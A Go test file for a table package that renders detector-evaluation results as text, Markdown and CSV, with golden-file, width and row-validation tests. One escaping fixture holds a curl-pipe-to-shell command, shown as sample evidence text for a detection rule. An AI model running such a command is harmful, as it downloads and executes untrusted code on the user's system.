package table

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// fixtures are the tables behind the golden files; each is rendered in all
// three formats.
func fixtures() map[string]*Table {
	simple := New(
		Column{Header: "detector"},
		Column{Header: "detected", Align: Right},
	)
	simple.Append("digest-image", "7/8")
	simple.Append("hierarchical", "8/8")

	csvOnly := New(
		Column{Header: "detector", Key: "detector"},
		Column{Header: "TPR [95% CI]", Key: "tpr_text"},
		Column{Key: "tpr_k", CSVOnly: true},
		Column{Key: "tpr_n", CSVOnly: true},
	)
	csvOnly.Append("multiengine", "100.0% [59.0–100.0] (7/7)", "7", "7")

	escape := New(Column{Header: "rule"}, Column{Header: "evidence"})
	escape.Append("curl-pipe-sh", "curl -s http://192.0.2.1/x | sh")
	escape.Append("multi-line", "line one\nline two")
	escape.Append("quote", `say "hi", then leave`)

	// Wider than TextWidth at its natural size: the text view must wrap at
	// spaces to stay within 80 columns.
	wide := New(
		Column{Header: "case"},
		Column{Header: "malicious layers"},
		Column{Header: "a detector with a long name"},
		Column{Header: "another detector"},
		Column{Header: "third detector"},
	)
	wide.Append("101", "8, 10", "flagged, blamed layers 8 and 10", "clean, nothing above the threshold", "incomplete, a size limit was hit")
	wide.Append("000", "none", "clean", "clean", "clean")

	return map[string]*Table{"simple": simple, "csv-only": csvOnly, "escape": escape, "wide": wide}
}

func TestGolden(t *testing.T) {
	formats := []struct {
		ext   string
		write func(*Table, *bytes.Buffer) error
	}{
		{"txt", func(t *Table, b *bytes.Buffer) error { return t.WriteText(b) }},
		{"md", func(t *Table, b *bytes.Buffer) error { return t.WriteMarkdown(b) }},
		{"csv", func(t *Table, b *bytes.Buffer) error { return t.WriteCSV(b) }},
	}
	for name, tbl := range fixtures() {
		for _, f := range formats {
			t.Run(name+"."+f.ext, func(t *testing.T) {
				var got bytes.Buffer
				if err := f.write(tbl, &got); err != nil {
					t.Fatal(err)
				}
				checkGolden(t, filepath.Join("testdata", name+"."+f.ext+".golden"), got.Bytes())
			})
		}
	}
}

func TestTextFitsWidth(t *testing.T) {
	var b bytes.Buffer
	if err := fixtures()["wide"].WriteText(&b); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n") {
		if n := len([]rune(line)); n > TextWidth {
			t.Errorf("line is %d columns, want <= %d: %q", n, TextWidth, line)
		}
	}
}

func TestWritersRejectRaggedRows(t *testing.T) {
	tests := []struct {
		name  string
		table *Table
	}{
		{name: "short row", table: &Table{Columns: []Column{{Header: "a"}, {Header: "b"}}, Rows: [][]string{{"1"}}}},
		{name: "long row", table: &Table{Columns: []Column{{Header: "a"}}, Rows: [][]string{{"1", "2"}}}},
		{name: "no columns", table: &Table{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.table.WriteText(&b); err == nil {
				t.Error("WriteText: want error")
			}
			if err := tt.table.WriteMarkdown(&b); err == nil {
				t.Error("WriteMarkdown: want error")
			}
			if err := tt.table.WriteCSV(&b); err == nil {
				t.Error("WriteCSV: want error")
			}
		})
	}
}

func TestAppendPanicsOnWrongCellCount(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("Append with 1 cell for 2 columns did not panic")
		}
	}()
	New(Column{Header: "a"}, Column{Header: "b"}).Append("only one")
}

func checkGolden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (go test -update rewrites it)\n--- got:\n%s\n--- want:\n%s", path, got, want)
	}
}
